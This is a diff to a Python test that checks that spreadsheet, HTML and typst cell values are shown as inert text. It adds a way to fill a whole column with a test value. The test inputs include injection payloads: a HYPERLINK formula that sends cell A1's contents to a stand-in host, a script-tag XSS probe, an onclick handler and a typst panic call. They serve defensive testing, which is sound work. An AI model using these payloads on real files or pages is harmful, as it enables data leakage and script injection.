@@ -52,9 +52,14 @@ Cell = tuple[str, str, int, str]
 """Data set, column, row and text."""
 
 
+EVERY = -1
+"""In place of a row: the whole column."""
+
+
 def put(cells: Sequence[Cell], table: pd.DataFrame) -> pd.DataFrame:
     for _, column, row, text in cells:
-        table.iloc[row % len(table), table.columns.get_loc(column)] = text
+        rows = slice(None) if row == EVERY else row % len(table)
+        table.iloc[rows, table.columns.get_loc(column)] = text
     return table
 
 
@@ -115,7 +120,7 @@ def cells(draw: st.DrawFn) -> Cell:
         ("statements", "company", 3, '=HYPERLINK("https://e.x?"&A1,"open")'),
         ("pool_points", "entity", 0, "=1+1"),
         ("evidence", "publisher", 5, "<script>alert(1)</script>"),
-        ("evidence", "note", 0, "`#panic()`{=typst}"),
+        ("evidence", "note", EVERY, "<b onclick=x>x</b> `#panic()`{=typst}"),
     ]
 )
 def test_cells_are_text_wherever_they_are_shown(pandoc: Engine, template: Shown, changed: list[Cell]) -> None:
